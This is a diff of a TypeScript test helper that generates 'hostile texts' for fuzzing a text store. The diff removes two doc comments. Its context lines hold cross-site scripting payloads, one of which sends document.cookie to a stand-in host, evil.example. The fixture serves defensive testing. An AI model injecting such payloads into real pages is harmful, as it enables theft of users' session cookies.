@@ -1,6 +1,5 @@
 import type { Random } from '../random.ts';
 
-/** Texts that something else than a store of texts might act upon. */
 const SCRIPTS = [
   '<script>alert(document.cookie)</script>',
   '"><img src=x onerror=fetch("//evil.example/"+document.cookie)>',
@@ -72,7 +71,6 @@ const PATHS = [
 ];
 const KINDS = [SCRIPTS, INSTRUCTIONS, QUERIES, NUMBERS, CONTROLS, PATHS];
 
-/** `count` different texts: each of these first, then pieces of them put together. */
 export function hostileTexts(count: number, random: Random): string[] {
   const texts = new Set(KINDS.flat());
   while (texts.size < count) {
